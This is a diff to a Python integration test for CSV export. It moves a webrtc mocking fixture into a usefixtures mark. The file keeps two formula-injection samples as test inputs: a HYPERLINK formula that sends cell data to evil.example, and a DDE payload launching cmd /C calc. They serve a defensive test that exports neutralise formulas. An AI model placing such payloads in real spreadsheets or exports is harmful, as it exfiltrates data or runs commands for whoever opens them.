@@ -7,7 +7,6 @@ from __future__ import annotations
 import csv
 import io
 import json
-from collections.abc import Iterator
 from unittest import mock
 
 import pandas as pd
@@ -21,18 +20,9 @@ from lib.store.database import Store
 from lib.ui.export import export_bytes
 from tests.integration.test_pages import shutdown
 
-pytestmark = pytest.mark.integration
+pytestmark = [pytest.mark.integration, pytest.mark.usefixtures("webrtc_under_apptest")]
 ASKED = '=HYPERLINK("http://evil.example/?d="&A1,"details")'
 ANSWERED = '@SUM(1+1)*cmd|" /C calc"!A0'
-
-
-@pytest.fixture(autouse=True)
-def _webrtc_under_apptest() -> Iterator[None]:
-    with (
-        mock.patch("streamlit_webrtc.component.get_this_session_info", return_value=None),
-        mock.patch("streamlit_webrtc.shutdown.get_this_session_info", return_value=None),
-    ):
-        yield
 
 
 def test_the_sessions_pages_csv_neutralises_formulas(tmp_path, monkeypatch, local_heygen):
